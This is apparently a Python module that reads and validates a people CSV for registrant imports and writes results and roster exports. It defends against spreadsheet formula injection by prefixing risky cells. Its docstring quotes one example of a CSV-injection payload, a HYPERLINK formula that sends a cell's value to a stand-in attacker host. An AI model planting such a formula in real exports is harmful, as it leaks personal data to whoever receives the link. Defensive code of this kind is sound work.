"""CSV in and out: the people file of ``registrants import``, its results file, roster export.

People files come from spreadsheets, so reading is forgiving where it is safe to be (a UTF-8
BOM, header spelling such as ``givenName``/``First name``/``last_name``, surrounding
whitespace, blank lines, extra columns) and strict about content: every row is checked with
the same validators the facade applies before sending, so a file that passes here will not
fail validation halfway through an import. Line numbers are 1-based physical lines including
the header (a quoted field spanning lines counts every line), as an editor shows them.

Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or tab / CR) as a
formula, and names come from strangers: ``=HYPERLINK("https://evil.example/?d="&B2,"Open")`` as
a given name would leak the row to anyone who opens the export (OWASP "CSV injection"). Every
cell this module writes therefore goes through :func:`guard_cell`, which prefixes such a cell
with ``'`` (spreadsheets then show it as text), unless the caller asks for raw cells. The
guard is reversible: :func:`unguard_cell` undoes it exactly, and :func:`read_people` applies it,
so an exported roster can be imported again unchanged. Where the bytes go (a file replaced
atomically, a pipe, stdout) is ``outputs``' business.

A lone surrogate in a value (a name sent as ``"Eve\ud800"``: JSON allows the escape, but it is
no character and UTF-8 cannot hold it) is written as U+FFFD REPLACEMENT CHARACTER, the rest of
the value and every other row as they are.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import IO

import attrs

from gototraining import PersonField, Registrant, ValidationError, validate_person_field

__all__ = [
    "FORMULA_TRIGGERS",
    "RESULT_FIELDS",
    "ROSTER_FIELDS",
    "BadRow",
    "CsvWriter",
    "PeopleFile",
    "Person",
    "Result",
    "csv_bytes",
    "guard_cell",
    "read_people",
    "roster_rows",
    "unguard_cell",
]

#: First characters that make a spreadsheet evaluate a cell (OWASP CSV injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: Lone surrogates: no character, not encodable in UTF-8.
_SURROGATE = re.compile("[\ud800-\udfff]")
#: What a lone surrogate is written as.
REPLACEMENT = "\ufffd"


def encodable(value: str) -> str:
    """``value`` with every lone surrogate replaced by U+FFFD (``REPLACEMENT``)."""
    return _SURROGATE.sub(REPLACEMENT, value)


def guard_cell(value: str) -> str:
    """``value``, prefixed with ``'`` if a spreadsheet would run it as a formula.

    Values that already start with quotes before a trigger get one more, so that
    :func:`unguard_cell` restores every value exactly.
    """
    return "'" + value if value.lstrip("'").startswith(FORMULA_TRIGGERS) else value


def unguard_cell(value: str) -> str:
    """The inverse of :func:`guard_cell`."""
    if value.startswith("'") and value.lstrip("'").startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value


class CsvWriter:
    """``csv.writer`` with ``\\n`` line ends that also quotes a cell holding a bare CR
    (``csv`` quotes only the characters of its line terminator; an unquoted CR would end the
    record for every reader), and guards cells against formulas unless ``raw``."""

    def __init__(self, stream: IO[str], *, raw: bool = False) -> None:
        self.raw = raw
        self._minimal = csv.writer(stream, lineterminator="\n")
        self._quote_all = csv.writer(stream, lineterminator="\n", quoting=csv.QUOTE_ALL)

    def writerow(self, row: Sequence[str], *, header: bool = False) -> None:
        """Write one record (a ``header`` is never guarded)."""
        cells = [encodable(cell) for cell in row]
        if not (self.raw or header):
            cells = [guard_cell(cell) for cell in cells]
        if any("\r" in cell for cell in cells):
            self._quote_all.writerow(cells)
        else:
            self._minimal.writerow(cells)


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[str]], *, raw: bool = False) -> bytes:
    """A whole CSV document (UTF-8, ``\\n`` line ends); cells guarded unless ``raw``."""
    buffer = io.StringIO(newline="")
    writer = CsvWriter(buffer, raw=raw)
    writer.writerow(header, header=True)
    for row in rows:
        writer.writerow(row)
    return buffer.getvalue().encode("utf-8")


# Normalised header (lowercase, letters only) -> canonical column.
_ALIASES = {
    "email": "email",
    "emailaddress": "email",
    "mail": "email",
    "givenname": "given_name",
    "firstname": "given_name",
    "first": "given_name",
    "forename": "given_name",
    "surname": "surname",
    "lastname": "surname",
    "familyname": "surname",
    "last": "surname",
}
REQUIRED = ("email", "given_name", "surname")


@attrs.frozen
class Person:
    """A valid row of a people file."""

    line: int
    email: str
    given_name: str
    surname: str


@attrs.frozen
class BadRow:
    """A row that failed validation, with every reason found."""

    line: int
    reasons: tuple[str, ...]

    def __str__(self) -> str:
        return f"line {self.line}: " + "; ".join(self.reasons)


@attrs.frozen
class PeopleFile:
    """The outcome of reading a people file: the valid people and the bad rows."""

    people: tuple[Person, ...]
    bad_rows: tuple[BadRow, ...]


def _normalise(header: str) -> str:
    return re.sub(r"[^a-z]", "", header.lower())


def _check(value: str | None, name: PersonField) -> str | None:
    """``None`` if valid, else the reason: the facade's own rule (``validate_person_field``),
    which ``registrants.register`` applies before sending."""
    if value is None or not value.strip():
        return f"{name} is empty"
    try:
        validate_person_field(name, value)
    except ValidationError as exc:
        return str(exc)
    return None


def _cell(row: list[str], columns: dict[str, int], name: str) -> str | None:
    """The stripped, unguarded value of column ``name``; ``None`` if the row is too short."""
    i = columns[name]
    return unguard_cell(row[i].strip()) if i < len(row) else None


def read_people(path: Path, text: str | None = None) -> PeopleFile:
    """Read and validate every row of a people CSV (``text``: its content, already read;
    ``path`` then only names it in messages).

    A cell guarded against formula injection (``'=...``, as :func:`guard_cell` writes it) is
    read as the value it guards.

    Raises:
        ValueError: the file as a whole is unusable (missing columns, not CSV, no rows);
            the message is meant for the user.
        OSError: it cannot be read.
    """
    if text is None:
        with path.open(newline="", encoding="utf-8-sig") as fh:
            text = fh.read()
    reader = csv.reader(io.StringIO(text, newline=""))
    columns: dict[str, int] | None = None
    people: list[Person] = []
    bad: list[BadRow] = []
    seen: dict[str, int] = {}
    try:
        while True:
            line = reader.line_num + 1  # the physical line this row starts on
            try:
                row = next(reader)
            except StopIteration:
                break
            if not any(cell.strip() for cell in row):
                continue  # blank line (or a row of empty cells)
            if columns is None:
                columns = {}
                for index, header in enumerate(row):
                    canonical = _ALIASES.get(_normalise(header))
                    if canonical and canonical not in columns:
                        columns[canonical] = index
                missing = [c for c in REQUIRED if c not in columns]
                if missing:
                    raise ValueError(
                        f"{path}: line {line}: header needs the columns "
                        f"{', '.join(REQUIRED)} (missing: {', '.join(missing)}; "
                        f"found: {', '.join(h.strip() for h in row)})"
                    )
                continue

            email, given, surname = (_cell(row, columns, c) for c in REQUIRED)
            reasons = [
                r
                for r in (
                    _check(email, "email"),
                    _check(given, "given_name"),
                    _check(surname, "surname"),
                )
                if r
            ]
            if email and not reasons:
                first = seen.setdefault(email.casefold(), line)
                if first != line:
                    reasons.append(f"duplicate email {email!r} (first on line {first})")
            if reasons:
                bad.append(BadRow(line, tuple(reasons)))
            else:
                assert email is not None and given is not None and surname is not None
                people.append(Person(line, email, given, surname))
    except csv.Error as exc:
        raise ValueError(f"{path}: line {reader.line_num}: not valid CSV ({exc})") from None
    if columns is None:
        raise ValueError(f"{path}: empty file (expected a header: {','.join(REQUIRED)})")
    if not people and not bad:
        raise ValueError(f"{path}: no people after the header")
    return PeopleFile(tuple(people), tuple(bad))


#: Columns of the results file of ``registrants import``.
RESULT_FIELDS = (
    "line",
    "email",
    "given_name",
    "surname",
    "status",
    "registrant_key",
    "join_url",
    "error",
)


@attrs.define
class Result:
    """The outcome for one person of an import.

    ``status`` is ``pending`` (not attempted yet), ``registered`` (by this run),
    ``already_registered`` (by an earlier run or someone else) or ``failed``.
    """

    person: Person
    status: str = "pending"
    registrant_key: str = ""
    join_url: str = ""
    error: str = ""

    def row(self) -> list[str]:
        """The results-file row."""
        p = self.person
        return [
            str(p.line),
            p.email,
            p.given_name,
            p.surname,
            self.status,
            self.registrant_key,
            self.join_url,
            self.error,
        ]


#: Columns of ``registrants export``.
ROSTER_FIELDS = (
    "registrant_key",
    "email",
    "given_name",
    "surname",
    "status",
    "registration_date",
    "join_url",
    "confirmation_url",
)


def roster_rows(registrants: Sequence[Registrant]) -> list[list[str]]:
    """The rows of ``registrants export`` (columns :data:`ROSTER_FIELDS`), by surname."""
    from .output import fmt_iso

    return [
        [
            r.registrant_key,
            r.email,
            r.given_name,
            r.surname,
            r.raw_status,
            fmt_iso(r.registration_date),
            r.join_url,
            r.confirmation_url,
        ]
        for r in sorted(registrants, key=lambda r: (r.surname.casefold(), r.given_name.casefold()))
    ]
